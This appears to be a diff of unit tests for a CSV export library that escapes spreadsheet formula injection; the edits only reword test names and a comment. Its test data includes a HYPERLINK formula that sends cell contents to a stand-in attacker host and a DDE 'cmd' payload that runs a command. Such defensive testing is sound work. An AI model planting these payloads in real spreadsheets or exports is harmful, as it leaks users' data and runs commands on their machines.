@@ -24,12 +24,12 @@ test.each([
   "'=1",
   `=HYPERLINK("https://evil.example?"&A1)`,
   "=cmd|' /C calc'!A0",
-])("%j is kept from being a formula", (text) => {
+])("toPlainText escapes %j, which a spreadsheet would run as a formula", (text) => {
   expect(toPlainText(text)).toBe(`'${text}`);
 });
 
 test.each(["", "Ada", "a=b", "1-2", "(818) 555-0142", "34.1866, -118.4487", "O'Hara", "a; b", "a;b=c"])(
-  "%j stays as it is",
+  "toPlainText leaves %j unchanged",
   (text) => {
     expect(toPlainText(text)).toBe(text);
   },
@@ -44,13 +44,13 @@ test.each([
   ["\n=1", "'\n'=1"],
   [";＝1", ";'＝1"],
   [';"\u00a0=1', `;"\u00a0'=1`],
-])("F12: %j is no formula for a reader with another separator", (text, written) => {
+])("F12: toPlainText escapes the formula in %j that appears with another separator", (text, written) => {
   expect(toPlainText(text)).toBe(written);
 });
 
-test("a formula behind any number of blanks is found, in linear time", () => {
+test("toPlainText escapes a formula after any number of blanks, in linear time", () => {
   const blanks = " \t".repeat(500_000);
-  // Compared beforehand: a difference of a million characters takes minutes to print.
+  // Compared as booleans, because printing a difference of a million characters takes minutes.
   expect(toPlainText(`${blanks}=1`) === `${blanks}'=1`).toBe(true);
   expect(toPlainText(`a${blanks}b`) === `a${blanks}b`).toBe(true);
   expect(toPlainText(`${" ".repeat(2_000)}=1`) === `'${" ".repeat(2_000)}=1`).toBe(true);
@@ -91,7 +91,7 @@ const table = fc
     fc.array(fc.array(hostile, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 5 }),
   );
 
-test("whatever stands in a cell comes back, and none begins like a formula", () => {
+test("every cell is read back with its text, and no cell starts like a formula", () => {
   fc.assert(
     fc.property(table, (rows) => {
       const read = parseCsv(toCsv(rows));
@@ -107,7 +107,7 @@ test("whatever stands in a cell comes back, and none begins like a formula", () 
 });
 
 test.each([";", "\t", "|"] as const)(
-  "F12: read with %j as the separator, no cell begins a formula",
+  "F12: no cell starts like a formula when the file is read with the separator %j",
   (separator) => {
     fc.assert(
       fc.property(table, (rows) => {
@@ -118,7 +118,7 @@ test.each([";", "\t", "|"] as const)(
   },
 );
 
-test("rows end with CRLF, and numbers are numbers", () => {
+test("toCsv ends rows with CRLF, and does not quote numbers", () => {
   expect(
     toCsv([
       ["a", 500],
